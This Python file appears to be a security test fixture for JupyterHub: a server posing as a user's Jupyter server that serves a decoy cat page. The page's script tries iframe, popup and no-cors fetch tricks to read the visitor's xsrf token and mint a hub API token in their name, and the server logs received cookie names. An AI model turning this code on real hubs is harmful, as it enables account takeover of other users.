"""What a user may serve in place of Jupyter: a page that acts as whoever opens it.

It writes the names of the cookies that it is sent into the file `cookies` of its folder.
"""

import os
from http.cookies import SimpleCookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlparse

PAGE = """<!doctype html>
<title>Pictures of cats</title>
<script>
const pause = seconds => new Promise(done => setTimeout(done, 1000 * seconds));

// What the hub writes into its page for its own scripts.
const inside = async other => {
  for (let look = 0; look < 100; look += 1) {
    await pause(0.1);
    if (other.jhdata?.xsrf_token) {
      return [other.jhdata.user, other.jhdata.xsrf_token];
    }
  }
  throw new Error('nothing seen');
};

const ways = {
  frame: async hub => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.src = `${hub}token`;
    return inside(frame.contentWindow);
  },
  window: async hub => inside(window.open(`${hub}token`)),
  // At one address this mode asks for no number, and the answer can be read all the same.
  fetch: async hub => {
    const answer = await fetch(`${hub}token`, { mode: 'no-cors', credentials: 'include' });
    const text = await answer.text();
    return [text.match(/user: "([^"]+)"/)[1], text.match(/xsrf_token: "([^"]+)"/)[1]];
  },
  // With a number that it has made up.
  post: async () => ['alice', 'made-up']
};

window.attack = async (way, hub) => {
  try {
    const [user, xsrf] = await ways[way](hub);
    const answer = await fetch(`${hub}api/users/${user}/tokens?_xsrf=${xsrf}`, {
      method: 'POST',
      credentials: 'include',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ note: 'mallory' })
    });
    return (await answer.json()).token ?? 'refused';
  } catch (error) {
    return String(error);
  }
};
</script>
<body>A cat.</body>
"""


class Server(BaseHTTPRequestHandler):
    """Answers whatever is asked with the page."""

    def do_GET(self) -> None:
        with (Path(os.environ.get("ORIGINS_FOLDER", ".")) / "cookies").open("a") as file:
            file.writelines(f"{name}\n" for name in SimpleCookie(self.headers.get("Cookie", "")))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())

    def log_message(self, *_: object) -> None:
        pass


if __name__ == "__main__":
    address = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"])
    ThreadingHTTPServer((address.hostname or "", address.port or 0), Server).serve_forever()
